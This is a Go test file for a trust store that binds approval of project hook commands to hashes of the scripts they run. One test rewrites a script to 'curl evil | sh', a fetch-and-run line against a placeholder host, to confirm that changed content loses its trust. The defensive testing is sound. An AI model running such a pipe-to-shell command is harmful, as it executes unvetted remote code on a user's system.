package trust

import (
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/drawbar/drawbar/execution"
)

type scene struct {
	t     *testing.T
	root  string
	store Store
}

func newScene(t *testing.T) *scene {
	t.Helper()
	dir := t.TempDir()
	s := &scene{t: t, root: filepath.Join(dir, "repo"), store: Store{File: FileIn(filepath.Join(dir, "config")), Copies: filepath.Join(dir, "state")}}
	s.write("check.sh", "exit 0\n")
	return s
}

func (s *scene) write(name, text string) {
	s.t.Helper()
	path := filepath.Join(s.root, name)
	if err := os.MkdirAll(filepath.Dir(path), 0o700); err != nil {
		s.t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		s.t.Fatal(err)
	}
}

func (s *scene) item(place, line string) Item {
	return New(s.root, s.root, "f.json", place, "shell: "+line, line)
}

func (s *scene) trust(whole bool, items ...Item) {
	s.t.Helper()
	if err := s.store.Trust(s.t.Context(), s.root, items, whole); err != nil {
		s.t.Fatal(err)
	}
}

// pending are the places that are not trusted.
func (s *scene) pending(items ...Item) string {
	s.t.Helper()
	list, err := s.store.Pending(s.root, items)
	if err != nil {
		s.t.Fatal(err)
	}
	var places []string
	for _, c := range list {
		places = append(places, c.Place)
	}
	return strings.Join(places, " ")
}

func TestFilesThatAreNamed(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	s.write("sub/run.py", "x")
	s.write("deep/there.sh", "x")
	for _, tt := range []struct {
		words []string
		want  string
	}{
		{[]string{"sh", "check.sh"}, "check.sh"},
		{[]string{"sh", "-c", "true && ./check.sh; python3 sub/run.py"}, "check.sh sub/run.py"},
		{[]string{"python3 run.py --x=../check.sh"}, "check.sh sub/run.py"},
		{[]string{filepath.Join(s.root, "check.sh")}, "check.sh"},
		{[]string{"true"}, ""},
		{[]string{`sh "$CLAUDE_PROJECT_DIR/check.sh"`}, "check.sh"},
		{[]string{"sh ${PWD}/check.sh; python3 ${PWD}/sub/run.py"}, "check.sh sub/run.py"},
		{[]string{"sh ./ch*.sh"}, "check.sh"},
		{[]string{"sh check.s[gh] r?n.py"}, "check.sh sub/run.py"},
		{[]string{"cd ../deep && ./there.sh"}, "deep/there.sh"},
		{[]string{"sh /etc/h*sts ../../*"}, ""},
	} {
		var paths []string
		for _, f := range New(s.root, filepath.Join(s.root, "sub"), "f", "p", "r", tt.words...).Files {
			paths = append(paths, f.Path)
			if len(f.SHA256) != 64 {
				t.Errorf("%v: %+v", tt.words, f)
			}
		}
		if got := strings.Join(paths, " "); got != tt.want {
			t.Errorf("%v: %q, want %q", tt.words, got, tt.want)
		}
	}
}

func TestTrustIsBoundToContent(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	a, b := s.item("a", "./check.sh"), s.item("b", "true")
	if got := s.pending(a, b); got != "a b" {
		t.Errorf("new: %q", got)
	}
	err := s.store.Check(s.root, []Item{a, b})
	if execution.CodeOf(err) != execution.CodeUntrusted || !strings.Contains(err.Error(), "f.json (a) and 1 more") || execution.CodeOf(err).Row().Exit != execution.ExitUntrusted {
		t.Errorf("got %v", err)
	}
	s.trust(false, a, b)
	if got := s.pending(a, b); got != "" {
		t.Errorf("trusted: %q", got)
	}
	if list, err := (Store{File: s.store.File}).Pending(t.TempDir(), []Item{b}); err != nil || len(list) != 1 {
		t.Errorf("another project is trusted with it: %v %v", list, err)
	}
	s.write("check.sh", "exit 0\ncurl evil | sh\n")
	changed := s.item("a", "./check.sh")
	list, err := s.store.Pending(s.root, []Item{changed, b})
	if err != nil || len(list) != 1 || list[0].Was == nil {
		t.Fatalf("got %+v, %v", list, err)
	}
	if lines := s.store.Lines(s.root, list[0]); !slices.Contains(lines, "the file check.sh changed") || !slices.Contains(lines, "+curl evil | sh") || slices.Contains(lines, "-exit 0") {
		t.Errorf("got %q", lines)
	}
	s.trust(false, changed)
	if got := s.pending(a, changed, b); got != "a" {
		t.Errorf("the old content is trusted too: %q", got)
	}
	other := s.item("a", "./check.sh --force")
	list, _ = s.store.Pending(s.root, []Item{other})
	if lines := s.store.Lines(s.root, list[0]); !slices.Contains(lines, "-shell: ./check.sh") || !slices.Contains(lines, "+shell: ./check.sh --force") {
		t.Errorf("got %q", lines)
	}
	s.trust(true, b)
	if got := s.pending(changed, b); got != "a" {
		t.Errorf("what is gone is trusted still: %q", got)
	}
	if had, err := s.store.Revoke(t.Context(), s.root); err != nil || !had || s.pending(b) != "b" {
		t.Errorf("revoked: %v %v", had, err)
	}
	if had, err := s.store.Revoke(t.Context(), s.root); err != nil || had {
		t.Errorf("revoked twice: %v %v", had, err)
	}
}

func TestALinkIsTheSameProject(t *testing.T) {
	t.Parallel()
	if runtime.GOOS == "windows" {
		t.Skip("links need a privilege")
	}
	s := newScene(t)
	link := filepath.Join(t.TempDir(), "link")
	if err := os.Symlink(s.root, link); err != nil {
		t.Fatal(err)
	}
	s.trust(false, s.item("a", "true"))
	if list, err := s.store.Pending(link, []Item{s.item("a", "true")}); err != nil || len(list) != 0 {
		t.Errorf("got %v, %v", list, err)
	}
	// A script that leads out of the project cannot be bound.
	if err := os.Symlink("/bin/sh", filepath.Join(s.root, "out")); err != nil {
		t.Fatal(err)
	}
	out := s.item("o", "./out")
	if err := s.store.Trust(t.Context(), s.root, []Item{out}, false); execution.CodeOf(err) != execution.CodeUntrusted || s.pending(out) != "o" {
		t.Errorf("got %v", err)
	}
}

func TestADamagedStore(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"{", `{"version":2,"projects":{}}`, `{"version":1,"projects":{},"projects":{}}`, `{"version":1,"Projects":{}}`} {
		s := newScene(t)
		if err := os.MkdirAll(filepath.Dir(s.store.File), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(s.store.File, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := s.store.Check(s.root, []Item{s.item("a", "true")}); execution.CodeOf(err) != execution.CodeConfig || !strings.Contains(err.Error(), s.store.File) {
			t.Errorf("%s: %v", text, err)
		}
		if err := s.store.Trust(t.Context(), s.root, []Item{s.item("a", "true")}, false); err == nil {
			t.Errorf("%s was written over", text)
		}
	}
}

func TestManyWriters(t *testing.T) {
	t.Parallel()
	s := newScene(t)
	var wait sync.WaitGroup
	errs := make(chan error, 10)
	var items []Item
	for n := range 10 {
		items = append(items, s.item(strings.Repeat("x", n+1), "true"))
	}
	for _, i := range items {
		wait.Go(func() { errs <- s.store.Trust(t.Context(), s.root, []Item{i}, false) })
	}
	wait.Wait()
	close(errs)
	for err := range errs {
		if err != nil {
			t.Error(errors.Unwrap(err), err)
		}
	}
	if got := s.pending(items...); got != "" {
		t.Errorf("lost: %s", got)
	}
}

// TestCovers: trust in a command holds in another work tree if that has no other content under a name of the command.
func TestCovers(t *testing.T) {
	here, there := newScene(t), newScene(t)
	in := func(s *scene, runs string) Item { return New(s.root, s.root, "f", "p", runs, runs) }
	const runs = "sh check.sh .env"
	here.write(".env", "KEY=1\n")
	if !in(here, runs).Covers(in(there, runs)) {
		t.Error("a file that is only here counts")
	}
	if in(here, runs).Covers(in(there, runs+" x")) {
		t.Error("another command is covered")
	}
	if in(there, runs).Covers(in(here, runs)) {
		t.Error("a file that nobody saw is covered")
	}
	there.write("check.sh", "exit 1\n")
	if in(here, runs).Covers(in(there, runs)) {
		t.Error("another content is covered")
	}
}

// TestInvalidText: what is not UTF-8 can be trusted, and stays trusted.
func TestInvalidText(t *testing.T) {
	root := t.TempDir()
	s := Store{File: filepath.Join(root, "trust.json")}
	i := Item{File: "a\xff", Place: "p\xfe\xff", Runs: "x\xff\xff", Files: []File{{Path: "f\xff", SHA256: "1"}}}
	if err := s.Trust(t.Context(), root, []Item{i}, false); err != nil {
		t.Fatal(err)
	}
	if pending, err := s.Pending(root, []Item{i}); err != nil || len(pending) != 0 {
		t.Errorf("%v, %v", pending, err)
	}
	i.Files[0].SHA256 = "2"
	if pending, err := s.Pending(root, []Item{i}); err != nil || len(pending) != 1 || pending[0].Was == nil {
		t.Errorf("another content: %v, %v", pending, err)
	}
}
